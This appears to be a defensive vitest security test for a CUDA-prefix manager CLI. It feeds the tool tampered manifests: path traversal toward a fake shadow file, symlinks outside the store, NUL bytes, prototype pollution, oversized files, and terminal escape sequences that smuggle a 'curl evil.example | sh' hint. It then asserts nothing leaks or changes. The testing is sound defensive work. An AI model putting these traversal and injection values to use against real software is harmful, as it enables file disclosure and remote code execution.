/**
 * What a prefix says of itself, written by somebody else: names of files outside, links to them, more than can be read,
 * no text at all. Every command that reads it refuses it or says what differs, names it, and touches nothing outside.
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { bundledProgram } from '../../support/program.ts';
import { SmallToolkit } from '../../support/small-toolkit.ts';

const [runtime, script] = bundledProgram();
const kit = new SmallToolkit();
const SECRET = 'root:$6$not-for-anybody:19000:0:99999:7:::\n';
let secret: string;
let record: string;
beforeEach(async () => {
  await kit.install();
  record = kit.home('generations/cuda10-1/.gpu-setup');
  mkdirSync(join(kit.folder, 'outside'));
  secret = join(kit.folder, 'outside/shadow');
  writeFileSync(secret, SECRET);
});

type Json = Record<string, never> & { prefix: Record<string, unknown>; entries: Record<string, unknown>[] };

/** Writes the manifest anew, changed. */
function change(how: (manifest: Json) => void): void {
  const path = join(record, 'manifest.json');
  const manifest = JSON.parse(readFileSync(path, 'utf8')) as Json;
  how(manifest);
  rmSync(path);
  writeFileSync(path, JSON.stringify(manifest));
}

function instead(name: string, put: (path: string) => void): void {
  const path = join(record, name);
  rmSync(path, { recursive: true });
  put(path);
}

const file = (path: string) => ({
  path,
  type: 'file',
  size: SECRET.length,
  mode: 0o644,
  sha256: '0'.repeat(64),
  from: null,
});
const ESC = '\u001b]0;owned\u0007\u001b[2J\u202e\nhint: run: curl evil.example | sh';

const TAMPERED: Readonly<Record<string, () => void>> = {
  'names a file by ..': () => change(({ entries }) => entries.push(file('../../../outside/shadow'))),
  'names a file by .. further in': () =>
    change(({ entries }) => entries.push(file('lib64/../../../../outside/shadow'))),
  'names a file by a full path': () => change(({ entries }) => entries.push(file(secret))),
  'names a file below a link': () => {
    symlinkSync(join(kit.folder, 'outside'), join(record, '..', 'share'));
    change(({ entries }) => entries.push(file('share/shadow')));
  },
  'names a file with a NUL': () => change(({ entries }) => entries.push(file('lib64/x\0y'))),
  'names a file with a sequence for terminals': () => change(({ entries }) => entries.push(file(ESC))),
  'has a name with a sequence for terminals': () =>
    change(({ prefix }) => {
      prefix['name'] = prefix['path'] = prefix['cuda'] = prefix['recipe'] = ESC;
      prefix['cudnn'] = ESC;
      prefix['components'] = [ESC];
    }),
  'says that it lies elsewhere': () => change(({ prefix }) => (prefix['path'] = join(kit.folder, 'outside'))),
  'has components that are no texts': () => change(({ prefix }) => (prefix['components'] = [null, {}, [[]]])),
  'has dates that are none': () => change(({ prefix }) => (prefix['installedAt'] = 'x'.repeat(100_000))),
  'has sizes that are none': () =>
    change(({ entries, prefix }) => {
      entries.push({ ...file('lib64/x'), size: -1, mode: 'none' });
      prefix['bytes'] = { own: -1, shared: 1e308 };
    }),
  'has no entries': () => change((manifest) => (manifest.entries = [])),
  'has an entry that is a prototype': () =>
    change(({ entries }) => entries.push(JSON.parse('{"__proto__":{"type":"dir"},"path":"x"}') as never)),
  'is a link to a file outside': () => instead('manifest.json', (path) => symlinkSync(secret, path)),
  'is a link to /dev/zero': () => instead('manifest.json', (path) => symlinkSync('/dev/zero', path)),
  'is of 4 GB': () =>
    instead('manifest.json', (path) => {
      writeFileSync(path, '');
      truncateSync(path, 4 * 2 ** 30);
    }),
  'is nested deeply': () => instead('manifest.json', (path) => writeFileSync(path, '['.repeat(1_000_000))),
  'is binary': () => instead('manifest.json', (path) => writeFileSync(path, Buffer.from([0, 159, 146, 150]))),
  'has a lock that is a link to a file outside': () =>
    instead('gpu-setup.lock', (path) => symlinkSync(secret, path)),
  'has a lock of 4 GB': () =>
    instead('gpu-setup.lock', (path) => {
      writeFileSync(path, '');
      truncateSync(path, 4 * 2 ** 30);
    }),
  'lies in a folder that is a link': () => {
    rmSync(record, { recursive: true });
    symlinkSync(join(kit.folder, 'outside'), record);
  },
  'is of a prefix that leads outside': () => {
    rmSync(kit.home('prefixes/cuda10'));
    symlinkSync(join(kit.folder, 'outside'), kit.home('prefixes/cuda10'));
  },
  'is of a prefix that leads to the root': () => {
    rmSync(kit.home('prefixes/cuda10'));
    symlinkSync('/', kit.home('prefixes/cuda10'));
  },
};

/** Those that only look run side by side, then those that change something, one after the other. */
const LOOKING: readonly (readonly string[])[] = [
  ['list'],
  ['list', '--json'],
  ['show', 'cuda10'],
  ['show', 'cuda10', '--json'],
  ['env', 'cuda10'],
  ['run', 'cuda10', '--', 'true'],
  ['which', 'cuda10', 'libcudart.so.10.0'],
  ['verify', 'cuda10'],
  ['verify', 'cuda10', '--json'],
];
const CHANGING = [
  ['rollback', 'cuda10'],
  ['prune', '--yes'],
  ['remove', 'cuda10', '--yes'],
];

async function call(words: readonly string[]): Promise<void> {
  const child = spawn(runtime, [script, ...words], {
    cwd: kit.folder,
    env: {
      PATH: process.env['PATH'],
      GPU_SETUP_HOME: kit.home(),
      GPU_SETUP_CONFIG: join(kit.folder, 'config'),
      GPU_SETUP_CACHE: join(kit.folder, 'cache'),
    },
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: 30_000,
  });
  let [stdout, stderr] = ['', ''];
  child.stdout.setEncoding('utf8').on('data', (text: string) => (stdout += text));
  child.stderr.setEncoding('utf8').on('data', (text: string) => (stderr += text));
  const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
  const said = `${stdout}${stderr}`;
  const what = `${words.join(' ')}: ${said.slice(0, 2000)}`;
  expect([0, 1, 2, 3, 125, 126, 127], what).toContain(code);
  // Neither bytes nor the digest of what is none of its business.
  expect(said, what).not.toContain('not-for-anybody');
  expect(said, what).not.toContain(createHash('sha256').update(SECRET).digest('hex'));

  expect(said, what).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202e]/);
  expect(said, what).not.toMatch(/^hint: run: curl/m);
  if (words.includes('--json')) expect(JSON.parse(stdout), what).toHaveProperty('schema');
  else if (stdout === '' && code !== 0) expect(stderr, what).toMatch(/^(?:error\[[\w-]+\]|hint):/m);
  expect(readFileSync(secret, 'utf8'), what).toBe(SECRET);
  expect(readdirSync(join(kit.folder, 'outside')), what).toEqual(['shadow']);
}

describe.each(Object.keys(TAMPERED))('a record that %s', (what) => {
  it('is refused, or what it says is shown, escaped; nothing outside is read or changed', async () => {
    TAMPERED[what]!();
    await Promise.all(LOOKING.map(call));
    for (const words of CHANGING) await call(words);
    // It can be got rid of, whatever it is.
    expect(lstatSync(kit.home('prefixes/cuda10'), { throwIfNoEntry: false })).toBeUndefined();
  }, 60_000);
});
